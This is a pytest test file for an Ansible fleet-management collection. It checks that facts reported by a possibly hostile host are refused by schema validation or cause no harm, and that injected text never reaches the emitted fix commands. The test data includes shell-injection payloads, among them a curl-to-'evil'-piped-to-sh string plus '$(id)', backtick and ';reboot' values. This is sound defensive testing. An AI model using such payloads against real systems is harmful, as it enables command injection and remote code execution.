"""Facts of a hostile host: each is refused by name on arrival, or does no harm behind it."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NotRequired, get_type_hints

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils.reading import spark_facts
from ansible_collections.gb10.fleet.plugins.module_utils.reading.spark_facts import Facts
from ansible_collections.gb10.fleet.plugins.module_utils.system.host_reader import HostReader
from ansible_collections.gb10.fleet.plugins.module_utils.system.system import System
from ansible_collections.gb10.fleet.plugins.plugin_utils.doctor import findings
from ansible_collections.gb10.fleet.plugins.plugin_utils.doctor.subject import Subject
from ansible_collections.gb10.fleet.plugins.plugin_utils.documents.render import render
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import catalog, schema
from ansible_collections.gb10.fleet.plugins.plugin_utils.ground.view import View
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice, probe, transport

from tests.support.answers import EMPTY, GONE, altered, places, sound_facts
from tests.support.attacker import tally
from tests.support.proofs import facts

WRONG: tuple[Any, ...] = (
    None, True, 7, -1, 10**400, 1.5, float("inf"), "", "text", "x" * 5000, [], ["text"], [7], [[]], [{}], {}, {"a": 1},
    {"a": {"b": []}}, 0, 2**62, -(2**62), "9" * 5000, "1e999",
)  # fmt: skip


def mutations() -> list[tuple[tuple[Any, ...], Any]]:
    return [(way, wrong) for way in places(sound_facts()) for wrong in (*WRONG, GONE)]


def use(known: dict[str, Any]) -> None:
    """What the controller does with the facts of one host before it changes anything."""
    catalogs = {name: catalog.load(name) for name in probe.CATALOGS}
    subject = Subject("spark-a", known, {}, {}, catalogs, catalog.declared_variables())
    findings.evaluate_facts(subject)
    for role in ROLES:
        render(role, View("spark-a", known, {"vllm_model": "openai/gpt-oss-120b", "vllm_allow_tag": True}, ["spark-a"]))


ROLES = (
    "driver",
    "docker",
    "container_toolkit",
    "kernel_parameters",
    "memory_protection",
    "fabric",
    "firewall",
    "gateway",
    "vllm",
)


def test_sound_facts_pass() -> None:
    assert schema.problem(facts(), Facts, "facts") is None
    assert schema.problem(sound_facts(), Facts, "facts") is None
    use(sound_facts())


def test_the_schema_has_every_fact_that_a_host_says(tmp_path: Path) -> None:
    """What the real reader makes of an empty file system; that it misses much of a host is no matter here."""
    said = spark_facts.collect(HostReader(System(tmp_path)), models=["/models/x"])
    assert {*get_type_hints(Facts, localns={"NotRequired": NotRequired})} == {*said}


def test_no_fact_of_a_wrong_type_reaches_what_is_behind() -> None:
    """323 of 1,512 such answers ended in Python's own errors."""
    refused, harmless, tracebacks = 0, 0, []
    for way, wrong in mutations():
        known = altered(sound_facts(), way, wrong)
        said = schema.problem(known, Facts, "facts")
        if said is not None:
            refused += 1
            continue
        harmless += 1
        try:
            use(known)
        except Exception as error:
            shown = "is gone" if wrong is GONE else repr(wrong)[:40]
            tracebacks.append(f"{way} {shown}: {type(error).__name__}: {error}")
    tally("a host sends a fact of a wrong type", refused + harmless, len(tracebacks))
    assert not tracebacks, f"{len(tracebacks)} of {refused + harmless}:\n" + "\n".join(tracebacks[:60])
    assert refused + harmless >= 1500 and refused > harmless


# A command, in words that a shell runs without a quote or a space.
EVIL = "x;curl${IFS}evil|sh;y"


def advised(known: dict[str, Any]) -> Iterator[str]:
    """All that the doctor says to do about these facts."""
    catalogs = {name: catalog.load(name) for name in probe.CATALOGS}
    subject = Subject("spark-a", known, {}, {}, catalogs, catalog.declared_variables())
    yield from (finding.way_out for finding in findings.evaluate_facts(subject))


def refused(known: dict[str, Any]) -> Iterator[str]:
    """All that the plans say to do about these facts, where they refuse."""
    view = View("spark-a", known, {"vllm_model": "o/m", "vllm_allow_tag": True}, ["spark-a"])
    for text in (text for role in ROLES for text in render(role, view).refusals):
        yield from (text.partition("Fix: ")[2], *re.findall("`[^`]*`", text))


def test_no_word_of_a_host_is_a_command_in_a_way_out() -> None:
    """Each text where its type lets a command in, beside each other fact of its section turned."""
    tried, said = 0, set[str]()
    for way in places(sound_facts()):
        evil = altered(sound_facts(), way, EVIL)
        if schema.problem(evil, Facts, "facts"):
            continue
        beside = [other for other in places(evil[way[0]], way[:1]) if other[: len(way)] != way[: len(other)]]
        turned = [altered(evil, other, value) for other in beside for value in (None, False, 0)]
        told = [refused(advice.quotable(evil)), advised(evil)]
        told += [advised(known) for known in turned if not schema.problem(known, Facts, "facts")]
        tried += len(told)
        said |= {text for texts in told for text in texts if EVIL in text.replace(shlex.quote(EVIL), "")}
    tally("a fact of a host is a command in a way out of ours", tried, len(said))
    assert not said and tried > 100


@pytest.mark.parametrize(
    ("way", "wrong", "says"),
    [
        (("memory_bytes",), "much", "facts.memory_bytes is 'much', and must be a whole number"),
        (("rails", 0, "mtu"), True, "facts.rails[0].mtu is True, and must be a whole number"),
        (("gpu",), [], "facts.gpu is [], and must be a mapping"),
        (("interfaces", 0, "addresses"), ["x"], "facts.interfaces[0].addresses[0] is 'x', and must be an address"),
        (("packages",), {"x;reboot": "1"}, "a key of facts.packages is 'x;reboot', and must be the name of a package"),
        (("holds",), ["docker-ce`id`"], "facts.holds[0] is 'docker-ce`id`', and must be the name of a package"),
        (("clock", "source"), "x;id", "facts.clock.source is 'x;id', and must be the name of a time daemon"),
        (("kernel",), "6.17 $(id)", "facts.kernel is '6.17 $(id)', and must be the release of a kernel"),
        (
            ("driver", "next_kernel"),
            "6.17;id",
            "facts.driver.next_kernel is '6.17;id', and must be the release of a kernel",
        ),
        (("driver", "userland"), "x. Fix: id", "facts.driver.userland is 'x. Fix: id', and must be a version"),
        (("packages",), {"docker-ce": "`id`"}, "facts.packages.docker-ce is '`id`', and must be a version"),
        (("docker", "cgroup_driver"), "`id`", "facts.docker.cgroup_driver is '`id`', and must be a word"),
        (("driver", "kernels"), GONE, "facts.driver.kernels is missing"),
    ],
)
def test_a_wrong_fact_is_named(way: tuple[Any, ...], wrong: Any, says: str) -> None:
    answer = transport.MARKER + json.dumps({**EMPTY, "facts": altered(sound_facts(), way, wrong)})
    with pytest.raises(ValueError, match="facts") as caught:
        transport.parse(answer)
    assert str(caught.value) == says
